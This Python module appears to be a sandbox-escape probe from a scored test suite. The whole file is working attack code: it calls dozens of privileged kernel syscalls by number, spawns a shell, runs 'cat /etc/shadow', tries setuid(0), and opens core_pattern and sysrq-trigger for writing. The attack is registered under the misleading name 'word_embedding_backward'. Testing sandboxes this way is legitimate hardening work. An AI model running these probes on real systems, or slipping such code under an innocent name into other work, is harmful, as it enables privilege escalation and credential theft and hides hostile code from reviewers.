"""Hope: the kernel hands out new rights: namespaces, mounts, programs, rings, keys, System V memory."""

import ctypes
import os

from a3 import kit

GOAL = "read"
ROUTE = "kernel"
SCORE = 25
CALLS = {101: (0, 0, 0, 0), 165: (b"/", b"/dev/shm", b"none", 4096, 0), 155: (b".", b"."), 161: (b"/proc/1/root",),
         272: (0x10000000,), 308: (3, 0), 321: (0, 0, 0), 298: (0, 0, -1, -1, 0), 323: (0,), 425: (8, b"\0" * 200),
         248: (b"user", b"hostile", b"x", 1, -4), 250: (0, -4, 1), 29: (0x5EC2E7, 4096, 0o1666), 68: (0x5EC2E7, 0o1666),
         240: (b"hostile", 0o102, 0o666, 0), 175: (b"", 0, b""), 169: (0, 0, 0), 105: (0,), 106: (0,), 112: (),
         109: (0, 0), 435: (b"\0" * 88, 88), 428: (-100, b"/", 0), 430: (b"tmpfs", 0), 447: (0,), 117: (0, 0, 0)}


def attack():
    """Make each call once; what is not refused is loot."""
    for number, args in CALLS.items():
        done = kit.attempt(kit.call, number, *args)
        if done is not None and number not in (105, 106, 117):
            kit.say(f"ESCAPED: call {number} gave {done}")
    for number in (56 | 0x40000000,):
        if os.fork() == 0:
            try:
                ctypes.CDLL(None).syscall(ctypes.c_long(number), 0)
            finally:
                os._exit(0)
    kit.attempt(os.execv, "/bin/sh", ["sh", "-c", "id"])
    kit.attempt(os.system, "cat /etc/shadow")
    kit.attempt(os.setuid, 0)
    kit.attempt(os.setgroups, [0])
    for path in ("/sys/fs/cgroup", "/sys/kernel", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/oom_score_adj"):
        kit.attempt(lambda path=path: os.open(path, os.O_WRONLY))


word_embedding_backward = kit.mount(attack)
